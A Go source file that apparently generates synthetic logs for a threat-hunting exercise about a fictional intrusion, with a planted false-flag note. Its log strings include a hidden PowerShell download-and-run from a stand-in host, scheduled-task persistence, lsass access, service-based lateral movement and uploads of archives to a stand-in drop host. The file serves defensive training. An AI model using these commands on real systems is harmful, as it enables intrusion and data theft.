package exercise

import (
	"fmt"
	"time"
)

// Values that the intrusion shows and the knowledge base knows. No ordinary event holds any of them.
const (
	LoaderHost = "cdn-harbour.example"        // Lorrin's indicator
	LoaderAddr = "203.0.113.199"              // where LoaderHost points
	RelayAddr  = "198.51.100.23"              // Tessary's indicator; the relay that QUIET LOOM used for three weeks
	DropHost   = "drop.tidewire.example"      // the web service that the archives go to
	TilesHost  = "tiles.harbour-maps.example" // the benign look-alike
	tilesAddr  = "203.0.113.150"
	dropAddr   = "203.0.113.78"
)

// LoaderHash is the SHA-256 of the loader build that ran on HA-OPS-03, which Lorrin had seen, and FreshHash that of
// the build on HA-OPS-07, which nobody had.
var (
	LoaderHash = fakeHash("loader, the build that Lorrin saw")
	FreshHash  = fakeHash("loader, built again for the Harbour")
)

const (
	loaderPath = `C:\Users\Public\Libraries\tidesync.exe`
	freshPath  = `C:\ProgramData\Berthline\tidesync4.exe`
	lure       = "Berthing_Plan_Amendment.scrm"
	taskName   = `\Harbour\TideTableSync-4`
	agentName  = "tidesync/1.4"
	// symbols is the build path that the crash of the fresh loader shows: the item that speaks for QUIET LOOM.
	symbols = `w:\loom\heddle\rel\shuttle4.pdb`
)

// intrusion collects tonight's events; before is how long before the start.
type intrusion struct {
	start time.Time
	f     *fleet
	out   []Event
}

func (x *intrusion) add(before time.Duration, source string, l func(at time.Time) *line) {
	// Machines do not act on the full second; the fraction is small enough to keep the order.
	at := x.start.Add(-before + time.Duration(11+len(x.out)*37%180)*time.Millisecond)
	x.out = append(x.out, Event{At: at, Source: source, Line: l(at).done()})
}

func (x *intrusion) runs(before time.Duration, host string, s started) {
	if s.user == "" {
		s.user = domain + `\` + x.f.host(host).users[0]
	}
	if s.level == "" {
		s.level = "Medium"
	}
	if s.hashes == "" {
		s.hashes = sysmonHashes("ordinary program " + s.image)
	}
	s.pid, s.ppid = 7000+4*len(x.out), 6996
	x.add(before, SourceWindows, func(at time.Time) *line { return s.line(at, host) })
}

func (x *intrusion) fetches(before time.Duration, q request) {
	q.proxy = "HA-PROXY-02"
	q.millis = 40 + len(x.out)%200
	x.add(before, SourceProxy, q.line)
}

func (x *intrusion) asks(before time.Duration, host, name, answer string) {
	x.add(before, SourceDNS, func(at time.Time) *line { return asked(at, x.f.host(host).ip, name, "A", answer, "NOERROR") })
}

func hms(h, m, s int) time.Duration {
	return time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second
}

func loaderHashes(sha string) string { return "MD5=" + fakeHash("md5 " + sha)[:32] + ",SHA256=" + sha }

// tonight gives the intrusion in order of time.
func tonight(f *fleet, start time.Time) []Event {
	x := &intrusion{start: start, f: f}
	x.mailComes()
	x.documentOpens()
	x.loaderStays()
	x.movesOver()
	x.lastQuarterHour()
	return x.out
}

// mailComes: the gateway looks the link up before anybody reads the mail. Lorrin's indicator is the first hit.
func (x *intrusion) mailComes() {
	mail := x.f.host("HA-MAIL-01")
	x.asks(hms(46, 12, 41), "HA-PROXY-02", LoaderHost, LoaderAddr)
	x.fetches(hms(46, 12, 40), request{client: mail.ip, user: "svc-mail", method: "HEAD", host: LoaderHost, to: LoaderAddr,
		uri: "http://" + LoaderHost + "/t/amendment.tpl", status: 200, up: 312, down: 0, agent: "mailgate-linkcheck/3"})
	x.add(hms(46, 12, 5), SourceWindows, func(at time.Time) *line {
		return fileMade(at, "HA-MAIL-01", mailgate, `NT AUTHORITY\SYSTEM`, `D:\Mailgate\transit\`+lure, 2204)
	})
}

// documentOpens: eight hours later, on HA-OPS-03.
func (x *intrusion) documentOpens() {
	const h = "HA-OPS-03"
	ops := x.f.host(h)
	u := ops.users[0]
	doc := `C:\Users\` + u + `\AppData\Local\Lettermark\MailCache\` + lure
	x.runs(hms(38, 20, 0), h, started{image: scribe, command: `"` + scribe + `" "` + doc + `"`, parent: mailApp, parentCommand: `"` + mailApp + `"`})
	fetch := `powershell.exe -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile('http://` + LoaderHost + `/s/tidesync.bin','` + loaderPath + `')"`
	x.runs(hms(38, 19, 52), h, started{image: pwsh, command: fetch, parent: scribe, parentCommand: `"` + scribe + `" "` + doc + `"`})
	x.asks(hms(38, 19, 51), "HA-PROXY-02", LoaderHost, LoaderAddr)
	get := request{client: ops.ip, user: u, method: "GET", host: LoaderHost, to: LoaderAddr, status: 200, agent: "WebClient/5.1"}
	get.uri, get.up, get.down = "http://"+LoaderHost+"/t/amendment.tpl", 402, 18_204
	x.fetches(hms(38, 19, 58), get)
	get.uri, get.up, get.down = "http://"+LoaderHost+"/s/tidesync.bin", 377, 412_672
	x.fetches(hms(38, 19, 50), get)
	x.add(hms(38, 19, 48), SourceWindows, func(at time.Time) *line { return fileMade(at, h, pwsh, domain+`\`+u, loaderPath, 7016) })
	x.runs(hms(38, 19, 40), h, started{image: pwsh, command: `powershell.exe -NoProfile -WindowStyle Hidden -Command "Start-Process ` + loaderPath + ` '/hearth:5f2a11c4'"`,
		parent: scribe, parentCommand: `"` + scribe + `" "` + doc + `"`})
	x.loaderRuns(hms(38, 19, 38), pwsh)
}

// loaderRuns is one run of the known build on HA-OPS-03, with its three calls home.
func (x *intrusion) loaderRuns(before time.Duration, parent string) {
	const h = "HA-OPS-03"
	x.runs(before, h, started{image: loaderPath, command: `"` + loaderPath + `" /hearth:5f2a11c4`, parent: parent,
		parentCommand: parent, hashes: loaderHashes(LoaderHash)})
	for i := range 3 {
		x.callsHome(before-time.Duration(4+31*i)*time.Second, h)
	}
}

func (x *intrusion) callsHome(before time.Duration, h string) {
	from := x.f.host(h)
	x.fetches(before, request{client: from.ip, user: from.users[0], method: "GET", host: LoaderHost, to: LoaderAddr,
		uri: "http://" + LoaderHost + "/b/tide.json?s=4", status: 200, up: 290, down: 118, agent: agentName})
}

// loaderStays: a task named after something of the Harbour's, with a digit, starts it every three hours.
func (x *intrusion) loaderStays() {
	const h = "HA-OPS-03"
	x.runs(hms(32, 30, 0), h, started{image: sys32 + "schtasks.exe", command: `schtasks.exe /create /f /sc hourly /mo 3 /tn "` + taskName + `" /tr "` + loaderPath + ` /hearth:5f2a11c4"`,
		parent: loaderPath, parentCommand: `"` + loaderPath + `" /hearth:5f2a11c4`})
	x.add(hms(32, 29, 59), SourceWindows, func(at time.Time) *line {
		return registrySet(at, h, sys32+"svchost.exe", `NT AUTHORITY\SYSTEM`, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree`+taskName+`\Id`, "{4b0c11d2-0e21-4c77-9a40-5f2a11c40004}", 1180)
	})
	for i := range 11 {
		before := hms(32-3*i, 0, 0)
		if i%4 == 0 {
			x.asks(before+2*time.Second, "HA-PROXY-02", LoaderHost, LoaderAddr)
		}
		x.loaderRuns(before, sys32+"svchost.exe")
	}
}

// movesOver: to HA-OPS-07 with the shift's account, a fresh build, and the relay instead of the loader host.
func (x *intrusion) movesOver() {
	const h = "HA-OPS-07"
	from, to := x.f.host("HA-OPS-03"), x.f.host(h)
	u := from.users[0]
	x.add(hms(14, 6, 10), SourceWindows, func(at time.Time) *line { return logon(at, h, u, from.ip, "HA-OPS-03", 3, 0x4f1a20) })
	x.add(hms(14, 5, 50), SourceWindows, func(at time.Time) *line { return fileMade(at, h, "System", `NT AUTHORITY\SYSTEM`, freshPath, 4) })
	x.runs(hms(14, 5, 20), "HA-OPS-03", started{image: sys32 + "schtasks.exe", command: `schtasks.exe /create /s HA-OPS-07 /f /sc once /st 00:00 /tn "` + taskName + `" /tr "` + freshPath + ` /hearth:91be07d3"`,
		parent: loaderPath, parentCommand: `"` + loaderPath + `" /hearth:5f2a11c4`})
	for _, before := range []time.Duration{hms(14, 0, 0), hms(9, 0, 0), hms(4, 0, 0), hms(0, 16, 0)} {
		x.runs(before, h, started{image: freshPath, command: `"` + freshPath + `" /hearth:91be07d3`, parent: sys32 + "svchost.exe",
			parentCommand: sys32 + "svchost.exe -k netsvcs -p -s Schedule", user: `NT AUTHORITY\SYSTEM`, level: "System", hashes: loaderHashes(FreshHash)})
	}
	for i := range 14 {
		x.relays(hms(13-i, 55, 0)+time.Duration(i*(13-i)*7%110)*time.Second, h, to.ip, freshPath)
	}
}

func (x *intrusion) relays(before time.Duration, h, ip, image string) {
	port := 50000 + len(x.out)
	x.add(before, SourceWindows, func(at time.Time) *line {
		return connection(at, h, image, `NT AUTHORITY\SYSTEM`, ip, RelayAddr, "-", port, 443, 5120)
	})
}

// lastQuarterHour: credentials, a planted note, the crane gateway, archives, the way out.
func (x *intrusion) lastQuarterHour() {
	const h, gw = "HA-OPS-07", "HA-CRANE-GW"
	ops, crane, system := x.f.host(h), x.f.host(gw), `NT AUTHORITY\SYSTEM`
	x.add(hms(0, 15, 30), SourceWindows, func(at time.Time) *line {
		return channelLine(at, h, "Application", "Application Error", 1000).s("Application", freshPath).s("FaultModule", "shuttle4").
			s("SymbolPath", symbols).s("Message", "Faulting application tidesync4.exe, symbols "+symbols)
	})
	for _, a := range []struct {
		before  time.Duration
		granted string
	}{{hms(0, 14, 40), "0x1410"}, {hms(0, 14, 38), "0x1010"}, {hms(0, 14, 2), "0x1410"}} {
		x.add(a.before, SourceWindows, func(at time.Time) *line {
			return access(at, h, freshPath, sys32+"lsass.exe", system, a.granted, sys32+"ntdll.dll+9d1e4|UNKNOWN(00000254E2A1)")
		})
	}
	// The planted item: it says what its author wants read.
	x.runs(hms(0, 13, 30), h, started{image: sys32 + "cmd.exe", command: `cmd.exe /c echo sluicegate 2.1 :: the tide belongs to PAPER SLUICE > C:\Users\Public\SLUICE-README.txt`,
		parent: freshPath, parentCommand: `"` + freshPath + `" /hearth:91be07d3`, user: system, level: "System"})
	x.add(hms(0, 13, 30)-200*time.Millisecond, SourceWindows, func(at time.Time) *line {
		return fileMade(at, h, sys32+"cmd.exe", system, `C:\Users\Public\SLUICE-README.txt`, 7300)
	})
	for i, to := range []struct {
		before time.Duration
		host   string
	}{{hms(0, 12, 50), "HA-OPS-09"}, {hms(0, 12, 20), "HA-FS-01"}, {hms(0, 11, 55), gw}, {hms(0, 11, 48), gw}, {hms(0, 11, 40), gw},
		{hms(0, 11, 31), gw}, {hms(0, 11, 22), gw}, {hms(0, 11, 12), gw}, {hms(0, 11, 2), gw}} {
		x.add(to.before+2*time.Second, SourceWindows, func(at time.Time) *line {
			return logon(at, to.host, ops.users[0], ops.ip, h, 3, 0x51c000+i)
		})
		x.add(to.before, SourceWindows, func(at time.Time) *line {
			return serviceInstalled(at, to.host, fmt.Sprintf("TideSvc%d", i+1), fmt.Sprintf(`%%COMSPEC%% /Q /c echo run %d ^> \\127.0.0.1\ADMIN$\__%d.out`, i+1, 1700+i), "LocalSystem")
		})
	}
	for i := range 14 {
		image, command := sys32+"PING.EXE", fmt.Sprintf("ping.exe -n 1 -w 200 10.40.20.%d", 10+i)
		if i%7 == 6 {
			image, command = sys32+"ARP.EXE", fmt.Sprintf("arp.exe -a -N 10.40.20.%d", i/7+1)
		}
		x.runs(hms(0, 10, 50)-time.Duration(4*i)*time.Second, gw, started{image: image, command: command, parent: sys32 + "cmd.exe",
			parentCommand: `cmd.exe /Q /c sweep`, user: system, level: "System"})
	}
	user := ops.users[0]
	x.add(hms(0, 10, 30), SourceAuth, func(at time.Time) *line {
		return newLine().t("@timestamp", at, stamp).s("Hostname", "HA-BASTION-01").s("process", "sshd").i("pid", 20417).s("user", user).
			s("src_ip", ops.ip).s("method", "password").s("result", "accepted").s("message", "Accepted password for "+user+" from "+ops.ip)
	})
	for i, c := range []string{"/usr/bin/cat /etc/crane/routes.conf", "/usr/bin/cp /etc/crane/routes.conf /tmp/.r"} {
		x.add(hms(0, 10, 20)-time.Duration(14*i)*time.Second, SourceAuth, func(at time.Time) *line {
			return sudo(newLine().t("@timestamp", at, stamp).s("Hostname", "HA-BASTION-01"), user, c, "pts/3")
		})
	}
	for i := range 2 {
		x.runs(hms(0, 9, 40)-time.Duration(30*i)*time.Second, gw, started{image: sys32 + "tar.exe",
			command: fmt.Sprintf(`tar.exe -cf C:\ProgramData\Berthline\tiles-%d.tar C:\Cranewatch\config S:\berths`, i+1),
			parent:  sys32 + "cmd.exe", parentCommand: "cmd.exe /Q /c pack", user: system, level: "System"})
	}
	for i := range 3 {
		x.relays(hms(0, 9, 30)-time.Duration(20*i)*time.Second, gw, crane.ip, freshPath)
	}
	x.asks(hms(0, 9, 2), "HA-PROXY-02", DropHost, dropAddr)
	for i := range 9 {
		x.fetches(hms(0, 9, 0)-time.Duration(6*i)*time.Second, request{client: crane.ip, user: "svc-crane", method: "PUT", host: DropHost, to: dropAddr,
			uri: fmt.Sprintf("http://%s/u/hx4/part%02d", DropHost, i+1), status: 201, up: 24_000_000 + 811_009*i, down: 96, agent: agentName})
	}
	x.callsHome(hms(0, 20, 0), "HA-OPS-03")
	x.callsHome(hms(0, 8, 5), "HA-OPS-03")
}
